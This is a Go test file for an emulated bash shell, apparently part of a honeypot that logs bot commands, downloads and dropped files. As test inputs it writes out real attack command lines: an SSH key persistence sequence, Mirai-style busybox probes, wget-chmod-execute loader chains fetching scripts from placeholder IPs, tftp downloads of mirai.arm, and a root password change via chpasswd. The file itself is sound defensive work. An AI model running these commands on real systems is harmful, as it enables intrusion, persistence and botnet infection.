package shell

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"testing/quick"
)

// testDownload is a deterministic fetch hook.
func testDownload(uri string) ([]byte, error) {
	if strings.Contains(uri, "unreachable") {
		return nil, fmt.Errorf("no route to host")
	}
	return []byte("PAYLOAD:" + uri), nil
}

func newTestShell() *Shell { return New("svr04", testDownload) }

func TestEchoOKBot(t *testing.T) {
	// The echo_OK bot (the dominant scout in Figure 2) checks for a live
	// shell with a hex-escaped echo.
	sh := newTestShell()
	out := sh.Run(`echo -e "\x6F\x6B"`)
	if out != "ok\n" {
		t.Errorf("echo -e hex = %q, want ok", out)
	}
	if sh.StateChanged() {
		t.Error("echo must not change state")
	}
	if len(sh.Commands()) != 1 || !sh.Commands()[0].Known {
		t.Errorf("commands = %+v", sh.Commands())
	}
}

func TestUnameVariants(t *testing.T) {
	sh := newTestShell()
	cases := map[string]string{
		"uname":                "Linux\n",
		"uname -a":             "Linux svr04 5.10.0-8-amd64 #1 SMP Debian 5.10.46-4 (2021-08-03) x86_64 GNU/Linux\n",
		"uname -s -v -n -r -m": "Linux #1 SMP Debian 5.10.46-4 (2021-08-03) svr04 5.10.0-8-amd64 x86_64\n",
		"uname -s -m":          "Linux x86_64\n",
	}
	for cmd, want := range cases {
		if got := sh.Run(cmd); got != want {
			t.Errorf("%s = %q, want %q", cmd, got, want)
		}
	}
}

func TestMdrfckrSequence(t *testing.T) {
	// The exact persistence sequence of the paper's dominant campaign:
	// wipe .ssh, install an authorized key labeled mdrfckr, lock perms.
	sh := newTestShell()
	key := "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDbc8PmfO mdrfckr"
	out := sh.Run(`cd ~ && chattr -ia .ssh; lockr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "` + key + `">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`)
	if strings.Contains(out, "No such file") {
		t.Errorf("unexpected error output: %q", out)
	}
	content, err := sh.FS.ReadFile("/root/.ssh/authorized_keys")
	if err != nil {
		t.Fatalf("authorized_keys not written: %v", err)
	}
	if !strings.Contains(string(content), "mdrfckr") {
		t.Errorf("authorized_keys = %q", content)
	}
	if !sh.StateChanged() {
		t.Error("state must have changed")
	}
	if len(sh.DroppedHashes()) == 0 {
		t.Error("dropped key file must be hashed")
	}
	// lockr is not a real command: the line must be recorded as unknown.
	if sh.Commands()[0].Known {
		t.Error("line containing unknown command lockr must be marked unknown")
	}
}

func TestMdrfckrRecon(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`cat /proc/cpuinfo | grep name | wc -l`)
	if out != "2\n" {
		t.Errorf("cpu count = %q, want 2", out)
	}
	out = sh.Run(`free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'`)
	if !strings.Contains(out, "2000") && !strings.Contains(out, "1") {
		t.Errorf("free|grep|awk output = %q", out)
	}
	out = sh.Run(`which ls`)
	if out != "/usr/bin/ls\n" {
		t.Errorf("which ls = %q", out)
	}
	out = sh.Run(`crontab -l`)
	if out != "no crontab for root\n" {
		t.Errorf("crontab -l = %q", out)
	}
	if sh.StateChanged() {
		t.Error("recon must not change state")
	}
}

func TestBusyboxAppletProbe(t *testing.T) {
	// Mirai-style probe: a bogus applet name must echo back "applet not
	// found", which the bot greps for.
	sh := newTestShell()
	out := sh.Run(`/bin/busybox KDVRN`)
	if out != "KDVRN: applet not found\n" {
		t.Errorf("busybox probe = %q", out)
	}
	out = sh.Run(`/bin/busybox cat /proc/self/exe || cat /proc/self/exe`)
	if !strings.Contains(out, "\x7fELF") {
		t.Errorf("busybox cat self/exe = %q", out)
	}
}

func TestLoaderSequenceWgetChmodExecRm(t *testing.T) {
	// The canonical Cluster-1 loader: cd, wget, chmod, execute, remove.
	sh := newTestShell()
	out := sh.Run(`cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh`)
	_ = out
	dls := sh.Downloads()
	if len(dls) != 1 {
		t.Fatalf("downloads = %+v", dls)
	}
	if dls[0].URI != "http://198.51.100.7/bins.sh" {
		t.Errorf("URI = %q", dls[0].URI)
	}
	if dls[0].SourceIP != "198.51.100.7" {
		t.Errorf("SourceIP = %q", dls[0].SourceIP)
	}
	if dls[0].Hash == "" {
		t.Error("download must be hashed")
	}
	execs := sh.ExecAttempts()
	if len(execs) != 1 {
		t.Fatalf("execs = %+v", execs)
	}
	if !execs[0].FileExists {
		t.Error("downloaded file must exist at exec time")
	}
	if execs[0].Hash != dls[0].Hash {
		t.Error("exec hash must match download hash")
	}
	if sh.FS.Exists("/tmp/bins.sh") {
		t.Error("file must be removed afterwards")
	}
}

func TestExecMissingFile(t *testing.T) {
	// Bots that assume scp/rsync delivered a file hit "file missing" —
	// the dominant case in Figure 4(b).
	sh := newTestShell()
	out := sh.Run(`cd /tmp && ./update.sh`)
	if !strings.Contains(out, "No such file or directory") {
		t.Errorf("output = %q", out)
	}
	execs := sh.ExecAttempts()
	if len(execs) != 1 || execs[0].FileExists {
		t.Fatalf("execs = %+v", execs)
	}
	if execs[0].Path != "/tmp/update.sh" {
		t.Errorf("path = %q", execs[0].Path)
	}
}

func TestAndOrShortCircuit(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`cd /nonexistent && echo yes || echo no`)
	if !strings.Contains(out, "no") || strings.Contains(out, "yes") {
		t.Errorf("short circuit broken: %q", out)
	}
	out = sh.Run(`cd /tmp && echo yes || echo no`)
	if !strings.Contains(out, "yes") || strings.Contains(out, "no\n") {
		t.Errorf("short circuit broken: %q", out)
	}
	// The classic bbox fallback chain must land in the first directory
	// that exists.
	sh.Run(`cd /tmp || cd /var/run || cd /mnt || cd /root || cd /`)
	if sh.FS.Cwd() != "/tmp" {
		t.Errorf("cwd = %q, want /tmp", sh.FS.Cwd())
	}
}

func TestRedirectionsCreateFiles(t *testing.T) {
	sh := newTestShell()
	sh.Run(`echo hello > /tmp/a.txt`)
	content, err := sh.FS.ReadFile("/tmp/a.txt")
	if err != nil || string(content) != "hello\n" {
		t.Fatalf("redirect write: %q, %v", content, err)
	}
	sh.Run(`echo world >> /tmp/a.txt`)
	content, _ = sh.FS.ReadFile("/tmp/a.txt")
	if string(content) != "hello\nworld\n" {
		t.Errorf("append = %q", content)
	}
	// No-space form.
	sh.Run(`echo x >/tmp/b.txt`)
	if !sh.FS.Exists("/tmp/b.txt") {
		t.Error(">file without space must work")
	}
	// 1>> and &>> append like >>.
	sh.Run(`echo x 1>>/tmp/f; echo y 1>>/tmp/f`)
	if content, _ = sh.FS.ReadFile("/tmp/f"); string(content) != "x\ny\n" {
		t.Errorf("1>> = %q", content)
	}
	sh.Run(`echo x &>>/tmp/g; echo y &>>/tmp/g`)
	if content, _ = sh.FS.ReadFile("/tmp/g"); string(content) != "x\ny\n" {
		t.Errorf("&>> = %q", content)
	}
	// Clearing a file: "echo > /etc/hosts.deny" (the mdrfckr variant).
	sh.Run(`echo > /etc/hosts.deny`)
	content, _ = sh.FS.ReadFile("/etc/hosts.deny")
	if string(content) != "\n" {
		t.Errorf("hosts.deny = %q", content)
	}
}

// TestRedirectErrorsPrintLikeBash: a redirect the vfs refuses prints
// bash's message for it, names the target as typed, and fails the
// command.
func TestRedirectErrorsPrintLikeBash(t *testing.T) {
	for _, tc := range []struct{ line, want string }{
		{"echo x > /nonexistent/f", "-bash: /nonexistent/f: No such file or directory\n"},
		{"echo x >> /nonexistent/f", "-bash: /nonexistent/f: No such file or directory\n"},
		{"cd /tmp; echo x > nodir/f", "-bash: nodir/f: No such file or directory\n"},
		{"echo x > /tmp", "-bash: /tmp: Is a directory\n"},
		{"echo x >> /tmp", "-bash: /tmp: Is a directory\n"},
		{"echo x > /etc/passwd/f", "-bash: /etc/passwd/f: Not a directory\n"},
		{"echo x > /tmp/f", ""},
		{"echo x > /var/log/wtmp", ""},
		{"cat /tmp", "cat: /tmp: Is a directory\n"},
		{"echo x 2>/nonexistent/f", "-bash: /nonexistent/f: No such file or directory\n"},
	} {
		sh := newTestShell()
		if got := sh.Run(tc.line); got != tc.want {
			t.Errorf("%s: printed %q, want %q", tc.line, got, tc.want)
		}
		want := "0\n"
		if tc.want != "" {
			want = "1\n"
		}
		if got := sh.Run(tc.line + " && echo 0 || echo 1"); !strings.HasSuffix(got, want) {
			t.Errorf("%s: exit status printed %q, want %q", tc.line, got, want)
		}
	}
}

// TestStderrRedirectKeepsStdout: 2> and 2>> take the shell's own error
// text; standard output still reaches the terminal or the pipe.
func TestStderrRedirectKeepsStdout(t *testing.T) {
	sh := newTestShell()
	for _, tc := range []struct{ line, want string }{
		{"echo x 2>/dev/null", "x\n"},
		{"echo x 2>/dev/null | cat", "x\n"},
		{"echo x 2>>/tmp/err", "x\n"},
		{"cat /tmp/err", ""},
		{"nosuchcmd 2>/dev/null || echo failed", "failed\n"},
		{"nosuchcmd 2>/tmp/err; nosuchcmd 2>>/tmp/err", ""},
		{"cat /tmp/err", "-bash: nosuchcmd: command not found\n-bash: nosuchcmd: command not found\n"},
		{"echo y >/tmp/out 2>/dev/null; cat /tmp/out", "y\n"},
	} {
		if got := sh.Run(tc.line); got != tc.want {
			t.Errorf("%s: printed %q, want %q", tc.line, got, tc.want)
		}
	}
}

func TestVariableAndCommandSubstitution(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run(`echo $SHELL`); out != "/bin/bash\n" {
		t.Errorf("$SHELL = %q", out)
	}
	if out := sh.Run(`echo ${HOME}`); out != "/root\n" {
		t.Errorf("${HOME} = %q", out)
	}
	if out := sh.Run(`ls -lh $(which ls)`); !strings.Contains(out, "ls") {
		t.Errorf("command substitution = %q", out)
	}
	if out := sh.Run("echo `whoami`"); out != "root\n" {
		t.Errorf("backtick substitution = %q", out)
	}
	sh.Run(`export FOO=bar`)
	if out := sh.Run(`echo $FOO`); out != "bar\n" {
		t.Errorf("export = %q", out)
	}
	sh.Run(`BAZ=qux`)
	if out := sh.Run(`echo $BAZ`); out != "qux\n" {
		t.Errorf("assignment = %q", out)
	}
}

// bashRows are lines whose output bash was run to produce: quoting,
// substitution, expansion, wrapped commands and $?.
var bashRows = []struct{ line, want string }{
	{`echo '$(id)'`, "$(id)\n"},
	{"echo '`id`'", "`id`\n"},
	{`echo $(echo a; echo b)`, "a b\n"},
	{`echo $(echo a | tr a b)`, "b\n"},
	{`X='>/tmp/h'; echo $X; cat /tmp/h`, ">/tmp/h\ncat: /tmp/h: No such file or directory\n"},
	{`nohup sh -c "echo a; echo b"`, "a\nb\n"},
	{`setsid sh -c "echo a; echo b"`, "a\nb\n"},
	{`echo x | xargs echo 'a;b'`, "a;b x\n"},
	{`echo x 1>>/tmp/f; echo y 1>>/tmp/f; cat /tmp/f`, "x\ny\n"},
	{`echo x &>>/tmp/g; echo y &>>/tmp/g; cat /tmp/g`, "x\ny\n"},
	{`nosuch >/dev/null 2>&1; echo $?`, "127\n"},
	{`true; echo $?`, "0\n"},
	{`false || echo $?`, "1\n"},
	{`X='a;id'; echo $X`, "a;id\n"},
	// Standard error is its own stream: 2> takes a builtin's errors too,
	// and a pipe or a substitution carries standard output only.
	{`cat /nope 2>/dev/null`, ""},
	{`ls /nope 2>/dev/null`, ""},
	{`rm /nope 2>/dev/null`, ""},
	{`head /nope 2>/dev/null`, ""},
	{`chmod +x /nope 2>/dev/null`, ""},
	{`sh -c 'cat /nope' 2>/dev/null`, ""},
	{`echo /nope | xargs cat 2>/dev/null`, ""},
	{`cat /nope | wc -l`, "cat: /nope: No such file or directory\n0\n"},
	{`nosuch > /tmp/f; cat /tmp/f | wc -l`, "-bash: nosuch: command not found\n0\n"},
	{`echo a > /tmp/x; cat /tmp/x /nope > /tmp/y 2>/dev/null; cat /tmp/y`, "a\n"},
	{`echo $(cat /nope) x`, "cat: /nope: No such file or directory\nx\n"},
	{`echo x 2>/dev/null >&2`, ""},
	{`cat /nope 2>&1 >/dev/null | wc -l`, "1\n"},
	{`cat /nope >/dev/null 2>&1 | wc -l`, "0\n"},
	{`x=$(nosuch); echo "[$x]"`, "-bash: nosuch: command not found\n[]\n"},
	// An assignment is one word, and before a command it is the
	// command's alone.
	{`x=$(echo a b); echo $x`, "a b\n"},
	{`X=1 echo hi`, "hi\n"},
	{`X=1 true; echo "[$X]"`, "[]\n"},
	{`A=1 B=$A; echo "[$B]"`, "[1]\n"},
	// wc prints what its flags ask for, and names its file operands.
	{`echo abc | wc -c`, "4\n"},
	{`echo abc > /tmp/f; wc -c /tmp/f`, "4 /tmp/f\n"},
	{`wc -l /nope 2>/dev/null`, ""},
	{`echo abc > /tmp/a; cat /tmp/a /nope 2>/dev/null | wc -c`, "4\n"},
	{`echo x > /dev/null; cat /dev/null | wc -c`, "0\n"},
	{`mkdir /nope/x`, "mkdir: cannot create directory '/nope/x': No such file or directory\n"},
	{`mkdir /tmp`, "mkdir: cannot create directory '/tmp': File exists\n"},
}

// TestParseMatchesBash runs each of bashRows in a fresh shell.
func TestParseMatchesBash(t *testing.T) {
	for _, tc := range bashRows {
		if got := newTestShell().Run(tc.line); got != tc.want {
			t.Errorf("%s: printed %q, bash prints %q", tc.line, got, tc.want)
		}
	}
}

// TestBashRowsAreBash runs each of bashRows under bash itself, with an
// empty environment, in a temporary directory that stands for /tmp/, and
// with bash's "bash: line 1: " read as the login shell's "-bash: ". The
// rows write only under /tmp and to /dev/null. Without bash the test
// skips, except under CI, where it fails.
func TestBashRowsAreBash(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("bash is not on PATH")
		}
		t.Skip("bash is not on PATH")
	}
	tmp := t.TempDir() + "/"
	for _, tc := range bashRows {
		cmd := exec.Command(bash, "--norc", "--noprofile", "-c", strings.ReplaceAll(tc.line, "/tmp/", tmp))
		cmd.Args[0], cmd.Env, cmd.Dir = "bash", []string{"PATH=/usr/bin:/bin"}, tmp
		var out bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &out
		_ = cmd.Run() // a row may exit non-zero
		got := strings.ReplaceAll(out.String(), "bash: line 1: ", "-bash: ")
		if want := strings.ReplaceAll(tc.want, "/tmp/", tmp); got != want {
			t.Errorf("%s: bash prints %q, the row says %q", tc.line, got, want)
		}
	}
}

// TestFailedRedirectSkipsCommand: a command whose redirect fails does
// not run, so a download behind it is never made.
func TestFailedRedirectSkipsCommand(t *testing.T) {
	sh := newTestShell()
	out := sh.Run("wget -q -O - http://198.51.100.3/x > /nonexistent/f")
	if want := "-bash: /nonexistent/f: No such file or directory\n"; out != want {
		t.Errorf("printed %q, want %q", out, want)
	}
	if n := len(sh.Downloads()); n != 0 {
		t.Errorf("recorded %d downloads, want 0", n)
	}
}

// TestDevNullIsADevice: the catalog's perl_dred_miner line writes its
// output to /dev/null, which keeps nothing and changes nothing, so the
// record carries no dropped hash; it used to carry the hash of what was
// written there, and a later cat printed it.
func TestDevNullIsADevice(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`perl /tmp/dred.pl dred > /dev/null; echo y >> /dev/null 2>&1; cat /dev/null`)
	if want := "-bash: perl: command not found\n"; out != want {
		t.Errorf("printed %q, want %q", out, want)
	}
	if sh.FS.Changed() || len(sh.DroppedHashes()) != 0 {
		t.Errorf("changes %+v, dropped hashes %v; want none", sh.FS.Changes(), sh.DroppedHashes())
	}
}

func TestChpasswdMarksStateChange(t *testing.T) {
	sh := newTestShell()
	sh.Run(`echo "root:xyzpassword123"|chpasswd|bash`)
	if !sh.StateChanged() {
		t.Error("chpasswd must modify /etc/shadow")
	}
}

func TestCurlVariants(t *testing.T) {
	sh := newTestShell()
	// curl_maxred style: silent GET with cookies, no file saved.
	out := sh.Run(`curl https://203.0.113.9/ -s -X GET --max-redirs 5 --compressed --cookie 'SID=abc' --raw --referer 'https://example.ru/'`)
	if !strings.Contains(out, "PAYLOAD:") {
		t.Errorf("curl output = %q", out)
	}
	if len(sh.Downloads()) != 1 {
		t.Fatalf("downloads = %+v", sh.Downloads())
	}
	if sh.StateChanged() {
		t.Error("plain curl must not change state")
	}
	// curl -O saves to basename.
	sh2 := newTestShell()
	sh2.Run(`cd /tmp; curl -O http://198.51.100.7/dropper`)
	if !sh2.FS.Exists("/tmp/dropper") {
		t.Error("curl -O must save the file")
	}
}

func TestTftpAndFtpget(t *testing.T) {
	sh := newTestShell()
	sh.Run(`cd /tmp; tftp -g -r mirai.arm 198.51.100.9`)
	if !sh.FS.Exists("/tmp/mirai.arm") {
		t.Error("tftp -g -r must save file")
	}
	sh.Run(`cd /tmp; ftpget -u anonymous -p guest 198.51.100.10 gaf.x86 gaf.x86`)
	if !sh.FS.Exists("/tmp/gaf.x86") {
		t.Error("ftpget must save file")
	}
	uris := []string{}
	for _, d := range sh.Downloads() {
		uris = append(uris, d.URI)
	}
	want := []string{"tftp://198.51.100.9/mirai.arm", "ftp://198.51.100.10/gaf.x86"}
	for i := range want {
		if uris[i] != want[i] {
			t.Errorf("uri[%d] = %q, want %q", i, uris[i], want[i])
		}
	}
}

func TestUnreachableDownload(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`wget http://unreachable.example/x`)
	if !strings.Contains(out, "wget:") {
		t.Errorf("output = %q", out)
	}
	// Download attempt is still recorded (the honeynet logs the URI) but
	// without a hash.
	if len(sh.Downloads()) != 1 || sh.Downloads()[0].Hash != "" {
		t.Errorf("downloads = %+v", sh.Downloads())
	}
}

func TestUnknownCommandRecorded(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`rsync -avz attacker@203.0.113.5:/payload /tmp/`)
	if !strings.Contains(out, "command not found") {
		t.Errorf("output = %q", out)
	}
	cmds := sh.Commands()
	if len(cmds) != 1 || cmds[0].Known {
		t.Errorf("rsync must be recorded as unknown: %+v", cmds)
	}
}

func TestExitEndsSession(t *testing.T) {
	sh := newTestShell()
	sh.Run("uname -a")
	sh.Run("exit")
	if !sh.Exited() {
		t.Error("exit must mark the session done")
	}
	// Exit mid-line stops later commands.
	sh2 := newTestShell()
	out := sh2.Run("exit; echo after")
	if strings.Contains(out, "after") {
		t.Errorf("commands after exit ran: %q", out)
	}
}

func TestPromptTracksCwd(t *testing.T) {
	sh := newTestShell()
	if got := sh.Prompt(); got != "root@svr04:~# " {
		t.Errorf("prompt = %q", got)
	}
	sh.Run("cd /tmp")
	if got := sh.Prompt(); got != "root@svr04:/tmp# " {
		t.Errorf("prompt = %q", got)
	}
}

func TestCatEtcPasswd(t *testing.T) {
	sh := newTestShell()
	out := sh.Run("cat /etc/passwd")
	if !strings.Contains(out, "root:x:0:0:") {
		t.Errorf("passwd = %q", out)
	}
}

func TestHistoryClearing(t *testing.T) {
	sh := newTestShell()
	sh.Run("uname")
	out := sh.Run("history")
	if !strings.Contains(out, "uname") {
		t.Errorf("history = %q", out)
	}
	if out := sh.Run("history -c"); out != "" {
		t.Errorf("history -c = %q", out)
	}
}

func TestRmGlob(t *testing.T) {
	sh := newTestShell()
	sh.Run("echo a > /tmp/x1; echo b > /tmp/x2; echo c > /tmp/keep.txt")
	sh.Run("rm -rf /tmp/x*")
	if sh.FS.Exists("/tmp/x1") || sh.FS.Exists("/tmp/x2") {
		t.Error("glob removal failed")
	}
	if !sh.FS.Exists("/tmp/keep.txt") {
		t.Error("glob removed too much")
	}
}

func TestDecodeEchoEscapesProperty(t *testing.T) {
	// Round-trip: encoding arbitrary bytes as \xHH escapes and decoding
	// must reproduce them — this is how bbox_echo_elf drops binaries.
	f := func(data []byte) bool {
		var enc strings.Builder
		for _, b := range data {
			fmt.Fprintf(&enc, "\\x%02x", b)
		}
		return decodeEchoEscapes(enc.String()) == string(data)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestEchoHexDropELF(t *testing.T) {
	sh := newTestShell()
	sh.Run(`echo -ne "\x7f\x45\x4c\x46\x02\x01" > /tmp/drop`)
	content, err := sh.FS.ReadFile("/tmp/drop")
	if err != nil {
		t.Fatal(err)
	}
	if string(content) != "\x7fELF\x02\x01" {
		t.Errorf("dropped bytes = %x", content)
	}
	if len(sh.DroppedHashes()) != 1 {
		t.Error("dropped file must be hashed")
	}
}

// commandsOf flattens a parsed line into its simple commands, each with
// the operator after it (opPipe inside a pipeline).
func commandsOf(list []pipeline) (cmds []command, ops []opKind) {
	for _, pl := range list {
		for i, c := range pl.cmds {
			cmds = append(cmds, c)
			if i < len(pl.cmds)-1 {
				ops = append(ops, opPipe)
			} else {
				ops = append(ops, pl.next)
			}
		}
	}
	return cmds, ops
}

func TestSplitSegments(t *testing.T) {
	cmds, ops := commandsOf(parse(`a && b || c; d | e`))
	if len(cmds) != 5 {
		t.Fatalf("commands = %+v", cmds)
	}
	wantOps := []opKind{opAnd, opOr, opSeq, opPipe, opSeq}
	wantText := []string{"a", "b", "c", "d", "e"}
	for i, c := range cmds {
		if len(c.words) != 1 || c.words[0].source() != wantText[i] || ops[i] != wantOps[i] {
			t.Errorf("command %d = %+v, op %v", i, c, ops[i])
		}
	}
	// Quoted operators are literal.
	cmds, _ = commandsOf(parse(`echo "a && b"`))
	if len(cmds) != 1 {
		t.Errorf("quoted operator split: %+v", cmds)
	}
}

func TestSplitWordsQuoting(t *testing.T) {
	cmds, _ := commandsOf(parse(`echo "hello world" 'single quoted' plain`))
	want := []string{"echo", "hello world", "single quoted", "plain"}
	if len(cmds) != 1 || len(cmds[0].words) != len(want) {
		t.Fatalf("commands = %+v", cmds)
	}
	for i := range want {
		if got := cmds[0].words[i].source(); got != want[i] {
			t.Errorf("word %d = %q, want %q", i, got, want[i])
		}
	}
}

func TestNestedShellDepthBounded(t *testing.T) {
	sh := newTestShell()
	// A recursive sh -c bomb must not blow the stack.
	line := `sh -c "sh -c \"sh -c 'sh -c \\\"sh -c uname\\\"'\""`
	out := sh.Run(line)
	_ = out // must terminate
}

func TestBase64Decode(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`echo -n dW5hbWUgLWE= | base64 -d`)
	if out != "uname -a" {
		t.Errorf("base64 -d = %q", out)
	}
}

func TestShCRunsNested(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`sh -c "uname -s"`)
	if out != "Linux\n" {
		t.Errorf("sh -c = %q", out)
	}
}

func BenchmarkShellLoaderSequence(b *testing.B) {
	for i := 0; i < b.N; i++ {
		sh := newTestShell()
		sh.Run(`cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh`)
	}
}

func BenchmarkShellRecon(b *testing.B) {
	sh := newTestShell()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		sh.Run(`cat /proc/cpuinfo | grep name | wc -l`)
	}
}
